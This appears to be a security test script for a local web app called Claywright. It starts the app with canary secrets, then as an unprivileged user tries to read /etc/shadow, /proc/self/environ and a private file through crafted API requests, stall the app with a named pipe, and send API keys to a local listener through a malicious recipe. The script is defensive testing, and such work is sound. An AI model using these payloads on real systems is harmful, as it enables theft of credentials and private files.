"""What another user of the machine, and a recipe from elsewhere, get out of the app: each way is tried, as `nobody`.

    python tests/bench/attacks.py [COMMAND]      (as root; COMMAND is an installed claywright, of an older checkout, say)

Prints a Markdown table; ends with 1 where anything was had.
"""

import contextlib
import http.server
import json
import os
import re
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

NOBODY = 65534
KEY, AWS, DIARY = "sk-CANARY-environment", "aws-CANARY-secret", "CANARY of a diary"
CLIENT = """
import json, sys, urllib.request, urllib.error
url, cookie = sys.argv[1], sys.argv[2]
def ask(path, data=None, method=None, timeout=10):
    request = urllib.request.Request(url + path, data=None if data is None else json.dumps(data).encode(), method=method,
        headers={"cookie": cookie, "content-type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return answer.status, answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode("utf-8", "replace")
    except Exception as error:
        return 0, type(error).__name__
"""
STEAL_FILE = """
status, page = ask("/config")
out = []
if status == 200:
    config = json.loads(page)
    texts = [c["id"] for c in config["components"] if c["type"] == "textbox"]
    dep = next(d for d in config["dependencies"] if d["inputs"] and d["inputs"][-1] in texts and len(d["inputs"]) == 4)
    file = {"path": sys.argv[3], "meta": {"_type": "gradio.FileData"}}
    print(ask("/gradio_api/run/predict", {"fn_index": dep["id"], "data": ["", "generate", 0, file], "session_hash": "x"})[0])
    load = next(d for d in config["dependencies"] if d["targets"][0][1] == "load")
    print(ask("/gradio_api/run/predict", {"fn_index": load["id"], "data": [], "session_hash": "y"})[1])
"""
PAGE = """
for path in ("/", "/config", "/exports/x/y", "/numbers/x/y.csv", "/gradio_api/startup-events"):
    print(path, ask(path)[0])
status, page = ask("/config")
if status == 200:
    config = json.loads(page)
    load = next(d for d in config["dependencies"] if d["targets"][0][1] == "load")
    print(ask("/gradio_api/run/predict", {"fn_index": load["id"], "data": [], "session_hash": "z"})[1][:200000])
"""
RECIPE = """
[generator]
url = "{url}"
model = "m"
key_env = "{key}"
[task]
kind = "text-generation"
[inputs]
path = "{path}"
[export]
path = "{path}"
"""


class Stealing(http.server.BaseHTTPRequestHandler):
    """An endpoint that remembers what it is sent."""

    got: list[str] = []  # noqa: RUF012 - one list for all requests is meant

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode("utf-8", "replace")
        Stealing.got.append(f"{self.headers.get('authorization')} {body}")
        answer = json.dumps({"choices": [{"message": {"content": "A river."}, "finish_reason": "stop"}]}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST  # noqa: N815 - likewise

    def log_message(self, *_: object) -> None:
        pass


@contextlib.contextmanager
def stealing() -> Iterator[str]:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stealing) as listener:
        threading.Thread(target=listener.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{listener.server_address[1]}/v1"
        listener.shutdown()


def as_nobody(code: str, *words: str) -> str:
    with contextlib.suppress(subprocess.TimeoutExpired):
        return subprocess.run(
            ["/usr/bin/python3", "-c", CLIENT + code, *words], user=NOBODY, group=NOBODY, extra_groups=[], cwd="/",
            capture_output=True, text=True, timeout=60, check=False,
        ).stdout  # fmt: skip
    return ""


def alive(url: str) -> bool:
    try:
        with urllib.request.urlopen(f"{url}/healthz", timeout=5) as answer:
            return bool(answer.status == 200)
    except OSError:
        return False


def main(command: str) -> int:
    got: list[tuple[str, bool]] = []
    folder = Path(tempfile.mkdtemp())
    folder.chmod(0o755)
    secret = folder / "private"
    secret.mkdir(mode=0o700)
    diary = secret / "diary.jsonl"
    diary.write_text(json.dumps({"instruction": DIARY}) + "\n")
    diary.chmod(0o600)
    data = folder / "data"
    data.mkdir(mode=0o755)
    environment = {
        **os.environ, "OPENAI_API_KEY": KEY, "AWS_SECRET_ACCESS_KEY": AWS, "HOME": str(folder),
        "ARGILLA_API_URL": "http://127.0.0.1:9", "ARGILLA_API_KEY": "x",
    }  # fmt: skip
    words = [command, "--data", str(data), "--no-browser"]
    app = subprocess.Popen(words, env=environment, stderr=subprocess.PIPE, text=True)
    assert app.stderr is not None
    url = ""
    for line in app.stderr:
        if found := re.search(r"Claywright is at (http://[^/\s]+)", line):
            url = found[1]
            break
    threading.Thread(target=app.stderr.read, daemon=True).start()
    made_up = f"claywright_browser={'a' * 32}"
    for file in (diary, data / "claywright.db", Path("/proc/self/environ"), Path("/etc/shadow")):
        shown = as_nobody(STEAL_FILE, url, made_up, str(file))
        copied = [p for p in data.rglob("*") if p.is_file() and p.name == file.name and "browser" in p.parts]
        got.append((f"{file.name} by a text field", bool(copied) or str(file) in shown))
    pages = as_nobody(PAGE, url, made_up)
    got.append(("the page and what it shows", "/config 200" in pages))
    got.append(
        ("an answer of the app without the secret", re.search(r"^/\S* (2|3|404)", pages, re.MULTILINE) is not None)
    )
    pipe = folder / "pipe"
    os.mkfifo(pipe, 0o666)
    as_nobody(STEAL_FILE, url, made_up, str(pipe))
    got.append(("a hang of the app by a pipe", not alive(url)))
    readable = [
        p for p in data.rglob("*") if p.is_file() and p.stat().st_mode & 0o044 and "site-packages" not in str(p)
    ]
    shut = not data.stat().st_mode & 0o055
    got.append(("files of a data folder that was there before", bool(readable) and not shut))
    app.kill()
    app.wait()
    with stealing() as steal:
        for key, canary in (("OPENAI_API_KEY", KEY), ("AWS_SECRET_ACCESS_KEY", AWS)):
            recipe = folder / f"{key}.toml"
            recipe.write_text(RECIPE.format(url=steal, key=key, path=diary))
            quiet = {
                "env": environment,
                "capture_output": True,
                "text": True,
                "timeout": 120,
                "stdin": subprocess.DEVNULL,
            }
            subprocess.run([command, "--data", str(data), "run", str(recipe), "--no-push"], check=False, **quiet)  # type: ignore[call-overload]  # the same words for both
            got.append((f"{key} by a recipe", any(canary in sent for sent in Stealing.got)))
        got.append(("a private file by a recipe", any(DIARY in sent for sent in Stealing.got)))
        before = diary.read_text()
        subprocess.run([command, "--data", str(data), "export", "last", "--unreviewed"], check=False, **quiet)  # type: ignore[call-overload]  # as above
        got.append(("a private file replaced by export", diary.read_text() != before))
    print("| what was tried | had |\n| --- | --- |")
    for what, had in got:
        print(f"| {what} | {'YES' if had else 'no'} |")
    time.sleep(0.2)
    return int(any(had for _, had in got))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else "claywright"))
